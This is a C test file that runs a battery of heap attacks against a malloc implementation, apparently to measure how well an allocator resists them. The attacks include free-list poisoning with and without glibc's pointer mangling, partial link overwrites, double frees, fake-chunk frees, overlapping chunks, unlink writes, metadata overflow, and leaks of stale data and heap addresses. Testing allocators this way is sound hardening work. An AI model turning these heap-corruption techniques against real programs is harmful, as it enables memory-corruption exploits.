/* Attacks on malloc. See attacks.h. */
#include "attacks.h"

#define SIZE 64u
#define MANY 2000u

static char target[1024] __attribute__((aligned(64))); /* what the attacker wants to own; it also looks like a chunk of glibc's */
static void *taken[MANY];

/* Allocates until some object is where it must not be, or for a while. */
static bool comes_out(size_t size, const char *from, const char *to)
{
	for (unsigned i = 0; i < MANY; i++) {
		taken[i] = take(size);
		if ((char *)taken[i] >= from && (char *)taken[i] < to)
			return true;
	}
	return false;
}

/* Whether an object comes out twice. */
static bool comes_twice(size_t size, const void *object)
{
	unsigned times = 0;

	for (unsigned i = 0; i < MANY; i++)
		times += (taken[i] = take(size)) == object;
	return times > 1;
}

/* Whether two of the objects that are allocated now have memory in common. */
static bool overlap(size_t size)
{
	for (unsigned i = 0; i < MANY / 4; i++)
		memset(taken[i] = take(size), (int)i, size);
	for (unsigned i = 0; i < MANY / 4; i++)
		for (unsigned j = 0; j < size; j++)
			if (((unsigned char *)taken[i])[j] != (unsigned char)i)
				return true;
	return false;
}

static void age(size_t size, unsigned count)
{
	static void *some[MANY];

	for (unsigned i = 0; i < count; i++)
		some[i] = take(size);
	for (unsigned i = 0; i < count; i++)
		drop(some[i]);
}

/* What a plain allocator's link to an address would be in that object: a pointer. glibc mixes it with the link's own
 * address. */
static uintptr_t plain_link(const void *object, const void *to, bool glibc)
{
	return glibc ? (uintptr_t)to ^ (uintptr_t)object >> 12 : (uintptr_t)to;
}

/* A freed object's link is overwritten with the address of a variable; it comes out as an object. */
static bool poison(bool glibc)
{
	void *first = take(SIZE), *second = take(SIZE);

	set_word(target, 8, SIZE + 17);
	drop(first);
	drop(second);
	for (size_t at = 0; at < SIZE; at += 8)
		if (at != 8)
			set_word(second, at, plain_link(second, target + 16, glibc));
	return comes_out(SIZE, target, target + sizeof(target));
}

/* A link is overwritten with an address, which comes out as an object. */
ATTACK(free_list_poisoning)
{
	return poison(false);
}

/* The same, mixed with the link's address as glibc does it. */
ATTACK(free_list_poisoning_mixed)
{
	return poison(true);
}

static bool partial(size_t bytes)
{
	char *objects[16], *victim;

	for (unsigned i = 0; i < 16; i++)
		objects[i] = take(SIZE);
	for (unsigned i = 0; i < 16; i++)
		if (i != 3)
			drop(objects[i]);
	victim = objects[3]; /* still in use: the link is bent toward it */
	memset(victim, 0x77, SIZE);
	for (unsigned i = 4; i < 16; i++)
		for (size_t at = 0; at < SIZE; at += 8)
			memcpy(objects[i] + at, &victim, bytes);
	return comes_out(SIZE, victim, victim + 1);
}

/* A link's lowest byte is bent toward an object in use. */
ATTACK(partial_overwrite_of_1_byte)
{
	return partial(1);
}

/* A link's two lowest bytes are. */
ATTACK(partial_overwrite_of_2_bytes)
{
	return partial(2);
}

/* An object is freed twice in a row, and comes out twice. */
ATTACK(double_free_at_once)
{
	void *object = take(SIZE);

	drop(object);
	drop(object);
	return comes_twice(SIZE, object);
}

/* With another one between; `bytes` of the object are overwritten before its second free. */
static bool double_free(size_t bytes)
{
	void *object = take(SIZE), *other = take(SIZE);

	drop(object);
	drop(other);
	memset(object, 0x11, bytes);
	drop(object);
	return comes_twice(SIZE, object);
}

/* Another one is freed between (A, B, A). */
ATTACK(double_free_with_another_between)
{
	return double_free(0);
}

/* Hundreds are freed between. */
ATTACK(double_free_much_later)
{
	void *object = take(SIZE), *fence[300];

	for (unsigned i = 0; i < 300; i++)
		fence[i] = take(SIZE);
	for (unsigned i = 0; i < 100; i++)
		drop(fence[i]);
	drop(object);
	for (unsigned i = 100; i < 300; i++)
		drop(fence[i]);
	drop(object);
	return comes_twice(SIZE, object);
}

/* What marks it as free is overwritten before the second free. */
ATTACK(double_free_with_the_mark_overwritten)
{
	return double_free(16);
}

/* It is freed again when all around it is free. */
ATTACK(double_free_in_free_pages)
{
	static void *objects[20000];
	unsigned times = 0;

	for (unsigned i = 0; i < 20000; i++)
		objects[i] = take(SIZE);
	for (unsigned i = 0; i < 20000; i++)
		drop(objects[i]);
	drop(objects[10000]);
	for (unsigned i = 0; i < 40000; i++)
		times += take(SIZE) == objects[10000];
	return times > 1;
}

/* A pointer into an object is freed, and comes out. */
ATTACK(free_of_the_middle)
{
	char *objects[64];

	for (unsigned i = 0; i < 64; i++) {
		objects[i] = take(SIZE);
		memset(objects[i], 0, SIZE);
		set_word(objects[i], 24, SIZE + 17); /* as glibc has a chunk's size in front of it */
		set_word(objects[i], 56, SIZE + 17);
	}
	drop(objects[20] + 32);
	return comes_out(SIZE, objects[20] + 32, objects[20] + 33);
}

/* A fake object in static memory is freed, and comes out. */
ATTACK(free_of_a_fake_object)
{
	memset(target, 0, sizeof(target));
	set_word(target, 8, SIZE + 17);
	set_word(target, 8 + SIZE + 16, SIZE + 17);
	drop(target + 16);
	return comes_out(SIZE, target, target + sizeof(target));
}

/* A size behind an object is overwritten, so that later ones overlap. */
ATTACK(overlapping_chunks)
{
	char *objects[64];

	for (unsigned i = 0; i < 64; i++)
		objects[i] = take(24);
	for (unsigned i = 0; i + 8 < 64; i += 8) {
		set_word(objects[i], 24, 0xd1); /* glibc's size of the next one, larger */
		drop(objects[i + 1]);
	}
	return overlap(200) || overlap(24);
}

/* Links to both sides are overwritten, so that a pointer is written. */
ATTACK(unlink_writes)
{
	char *objects[64];
	uintptr_t before;

	for (unsigned i = 0; i < 64; i++)
		objects[i] = take(1200);
	memset(target, 0, sizeof(target));
	before = word_at(target, 40);
	for (unsigned i = 0; i < 64; i += 2)
		drop(objects[i]);
	for (unsigned i = 0; i < 64; i += 2) {
		set_word(objects[i], 0, (uintptr_t)target + 16);
		set_word(objects[i], 8, (uintptr_t)target + 16);
	}
	if (comes_out(1200, target, target + sizeof(target)))
		return true;
	for (unsigned i = 1; i < 64; i += 2)
		drop(objects[i]);
	age(1200, 200);
	return word_at(target, 40) != before || word_at(target, 16) || word_at(target, 24);
}

/* Freed memory comes back with objects of another size. */
ATTACK(reuse_by_another_size)
{
	static char *objects[20000];

	for (unsigned i = 0; i < 20000; i++)
		memset(objects[i] = take(48), 1, 48);
	for (unsigned i = 0; i < 20000; i++)
		drop(objects[i]);
	for (unsigned i = 0; i < 3000; i++)
		memset(take(400), 0x5a, 400);
	for (unsigned i = 0; i < 20000; i++)
		if (objects[i][24] == 0x5a && objects[i][33] == 0x5a)
			return true;
	return false;
}

/* The next object is the one that was just freed. */
ATTACK(reuse_at_once)
{
	unsigned hits = 0;

	age(SIZE, 500);
	for (unsigned i = 0; i < 64; i++) {
		void *object = take(SIZE);

		drop(object);
		hits += take(SIZE) == object;
	}
	return hits > 16; /* one in four */
}

/* Objects allocated in a row lie side by side. */
ATTACK(adjacent_objects)
{
	char *last = take(SIZE);
	unsigned hits = 0;

	for (unsigned i = 0; i < 400; i++) {
		char *next = take(SIZE);

		hits += (uintptr_t)(next - last) <= SIZE + 16;
		last = next;
	}
	return hits > 100; /* one in four */
}

/* Whether 16 bytes in a row are left of a secret; a few may be there by chance. */
static bool holds_secret(const char *object)
{
	unsigned row = 0;

	for (unsigned i = 0; i < 256 && row < 16; i++)
		row = object[i] == 0x42 ? row + 1 : 0;
	return row == 16;
}

/* A freed object still holds what it held. */
ATTACK(stale_secret)
{
	char *object = take(256);

	memset(object, 0x42, 256);
	drop(object);
	OPAQUE(object);
	return holds_secret(object);
}

/* A new object holds what another one left. */
ATTACK(stale_secret_in_a_new_object)
{
	char *objects[200];

	for (unsigned i = 0; i < 200; i++)
		memset(objects[i] = take(256), 0x42, 256);
	for (unsigned i = 0; i < 200; i++)
		drop(objects[i]);
	for (unsigned i = 0; i < 400; i++)
		if (holds_secret(take(256)))
			return true;
	return false;
}

/* A freed object, when it is read, tells where the heap is. */
ATTACK(leak_of_a_link)
{
	char *objects[64];

	for (unsigned i = 0; i < 64; i++)
		memset(objects[i] = take(SIZE), 0, SIZE);
	for (unsigned i = 0; i < 64; i++)
		drop(objects[i]);
	for (unsigned i = 0; i < 64; i++)
		for (size_t at = 0; at < SIZE; at += 8) {
			uintptr_t word = word_at(objects[i], at), mixed = word ^ (uintptr_t)objects[i] >> 12;

			for (unsigned j = 0; j < 64; j++)
				if ((word && word - (uintptr_t)objects[j] < SIZE) || mixed - (uintptr_t)objects[j] < SIZE)
					return true;
		}
	return false;
}

/* An overflow of 1 MiB reaches what the allocator keeps. */
ATTACK(overflow_into_metadata)
{
	char *object = take(SIZE);
	volatile char *at;

	age(SIZE, 100);
	for (at = object + SIZE; at < object + (1u << 20); at += 8) {
		unsigned char there;

		if (mincore((void *)((uintptr_t)at & ~(uintptr_t)4095), 1, &there))
			break;
		*(volatile uintptr_t *)at = (uintptr_t)target + 16;
	}
	set_word(target, 8, SIZE + 17);
	for (size_t size = 16; size <= 512; size += 16)
		if (comes_out(size, target, target + sizeof(target)))
			return true;
	return false;
}
